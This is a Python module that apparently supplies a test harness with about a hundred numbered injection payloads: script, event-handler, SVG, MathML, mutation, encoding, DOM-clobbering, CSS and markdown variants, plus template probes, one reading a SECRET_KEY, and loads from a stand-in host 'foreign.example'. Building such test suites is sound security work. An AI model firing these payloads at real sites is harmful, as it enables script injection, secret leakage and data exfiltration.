"""A hundred payloads of our own that run, load or change something where a page takes text for markup.

Each begins with a sign of its own, so that a page can be asked whether it was shown at all. What it makes carries the
attribute `struck`, what it runs opens a dialog, what it loads comes from FOREIGN, a template works out WORKED_OUT.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

FOREIGN = "foreign.example"
WORKED_OUT = "62710561"  # 7919 * 7919, which no payload spells

# § is the payload's number.
_BODIES: dict[str, tuple[str, ...]] = {
    "tag": (
        "<script struck>alert(§)</script>",
        "<img struck src=x onerror=alert(§)>",
        "<b struck>",
        "<iframe struck srcdoc='<script>parent.alert(§)</script>'></iframe>",
        "<iframe struck src=javascript:alert(§)></iframe>",
        "<script struck src=//foreign.example/§.js></script>",
        "<details struck open ontoggle=alert(§)>",
        "<body struck onload=alert(§)>",
        "<input struck autofocus onfocus=alert(§)>",
        "<video struck><source onerror=alert(§)></video>",
        "<audio struck src=x onerror=alert(§)>",
        "<object struck data=//foreign.example/§></object>",
        "<embed struck src=//foreign.example/§>",
        "<link struck rel=stylesheet href=//foreign.example/§.css>",
        "<meta struck http-equiv=refresh content='0;url=//foreign.example/§'>",
        "<base struck href=//foreign.example/§/>",
        "<form struck action=//foreign.example/§><button>ok</button></form>",
        "<marquee struck onstart=alert(§)>",
    ),
    "attribute": (
        '" struck onmouseover=alert(§) x="',
        "' struck onfocus=alert(§) autofocus x='",
        '"><img struck src=x onerror=alert(§)>',
        "'><img struck src=x onerror=alert(§)>",
        "x struck onclick=alert(§)",
        '" struck style=animation-name:x onanimationstart=alert(§) "',
        "--><img struck src=x onerror=alert(§)>",
        "]]><img struck src=x onerror=alert(§)>",
        "</title><img struck src=x onerror=alert(§)>",
        "</textarea><img struck src=x onerror=alert(§)>",
        "</script><img struck src=x onerror=alert(§)>",
        "</style><img struck src=x onerror=alert(§)>",
        "</option></select><img struck src=x onerror=alert(§)>",
        "'-alert(§)-'",
        "\\'-alert(§)//",
        "`-alert(§)-`",
    ),
    "scheme": (
        "<a struck href=javascript:alert(§)>go</a>",
        "<a struck href='java\tscript:alert(§)'>go</a>",
        "<a struck href='&#106;avascript:alert(§)'>go</a>",
        "<a struck href='data:text/html,<script>alert(§)</script>'>go</a>",
        "javascript:alert(§)",
        "JaVaScRiPt://%0aalert(§)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:alert(§)",
        "//foreign.example/§",
    ),
    "svg": (
        "<svg struck onload=alert(§)>",
        "<svg struck><script>alert(§)</script></svg>",
        "<svg struck><a href=javascript:alert(§)><text y=9>go</text></a></svg>",
        "<svg struck><image href=//foreign.example/§ /></svg>",
        "<svg struck><use href='data:image/svg+xml,<svg id=x onload=alert(§)/>#x' /></svg>",
        "<svg struck><animate onbegin=alert(§) attributeName=x dur=1s>",
        "<svg struck><set attributeName=href to=javascript:alert(§) /></svg>",
        "<svg struck><foreignObject><img src=x onerror=alert(§)></foreignObject></svg>",
    ),
    "mathml": (
        "<math struck href=javascript:alert(§)>go</math>",
        "<math struck><mtext><img src=x onerror=alert(§)></mtext></math>",
        "<math struck><maction actiontype=statusline xlink:href=javascript:alert(§)>go</maction></math>",
        "<math struck><annotation-xml encoding=text/html><img src=x onerror=alert(§)></annotation-xml></math>",
    ),
    "template": (
        "{{ 7919*7919 }}",
        "${7919*7919}",
        "#{7919*7919}",
        "<%= 7919*7919 %>",
        "{% widthratio 7919 1 7919 %}",
        "{%% debug %%}",
        "{{ settings.SECRET_KEY }}",
        "{{ constructor.constructor('alert(§)')() }}",
        "%(password)s {0.__class__} {self}",
    ),
    "mutation": (
        "<noscript><p title='</noscript><img struck src=x onerror=alert(§)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img struck title='--&gt;&lt;img src=x onerror=alert(§)&gt;'>",
        "<svg><style><img title='</style><img struck src=x onerror=alert(§)>'>",
        "<svg><p><style><g title='</style><img struck src=x onerror=alert(§)>'>",
        "<template><img struck src=x onerror=alert(§)></template>",
        "<xmp><p title='</xmp><img struck src=x onerror=alert(§)>'>",
        "<table><td><script struck>alert(§)</script></td></table>",
        "<select><iframe struck srcdoc='<script>parent.alert(§)</script>'></iframe></select>",
    ),
    "encoding": (
        "&lt;img struck src=x onerror=alert(§)&gt;",
        "&amp;lt;img struck src=x onerror=alert(§)&amp;gt;",
        "&#60;img struck src=x onerror=alert(§)&#62;",
        "%3Cimg struck src=x onerror=alert(§)%3E",
        "%253Cimg struck src=x onerror=alert(§)%253E",
        "\\u003cimg struck src=x onerror=alert(§)\\u003e",
        "\\x3cimg struck src=x onerror=alert(§)\\x3e",
        "+ADw-img struck src=x onerror=alert(§)+AD4-",
        "<img/struck/src=x/onerror=alert(§)>",
        "<<img struck src=x onerror=alert(§)//<",
    ),
    "clobbering": (
        "<a struck id=document><a struck id=document name=cookie>",
        "<form struck id=body><input name=attributes><input name=innerHTML></form>",
        "<img struck name=getElementById>",
        "<input struck name=csrfmiddlewaretoken value=taken>",
        "<div struck id=toolbar data-part=home data-live>",
    ),
    "css": (
        "<style struck>body{display:none}</style>",
        "<style struck>@import '//foreign.example/§.css';</style>",
        "<p struck style=background:url(//foreign.example/§)>",
        "red;background:url(//foreign.example/§)",
    ),
    "unicode": (
        "\uff1cimg struck src=x onerror=alert(§)\uff1e",
        "\u202e<img struck src=x onerror=alert(§)>\u202c",
        "<\u017fcript struck>alert(§)</\u017fcript>",
        "<img struck src=x one\u200brror=alert(§)>",
        "\u2028<img struck src=x onerror=alert(§)>\u2029",
    ),
    "markdown": (
        "[go](javascript:alert(§))",
        "![seen](//foreign.example/§.png)",
        "[go]( <javascript:alert(§)> 'x\" onmouseover=alert(§) struck x=')",
        "<https://foreign.example/§> [r]: javascript:alert(§)",
    ),
}


@dataclass(frozen=True, slots=True)
class Payload:
    """One payload. `text` is what is planted; `sign` its first word, which no other text has."""

    number: int
    kind: str
    text: str

    @property
    def sign(self) -> str:
        return f"xs{self.number:03}"


def _numbered() -> Iterable[Payload]:
    number = 0
    for kind, bodies in _BODIES.items():
        for body in bodies:
            number += 1
            yield Payload(number, kind, f"xs{number:03} {body.replace('§', str(number))}")


PAYLOADS = tuple(_numbered())


def packed(payloads: Iterable[Payload], longest: int, without: str = "") -> list[str]:
    """Return the payloads in as few lines of `longest` signs as they fit into, in their order.

    Left out are those that are longer, and those with a sign that the field would cut: only whole ones prove anything.
    """
    lines: list[str] = []
    for text in (one.text for one in payloads):
        if len(text) > longest or any(sign in text for sign in without):
            continue
        if lines and len(lines[-1]) + 1 + len(text) <= longest:
            lines[-1] += " " + text
        else:
            lines.append(text)
    return lines
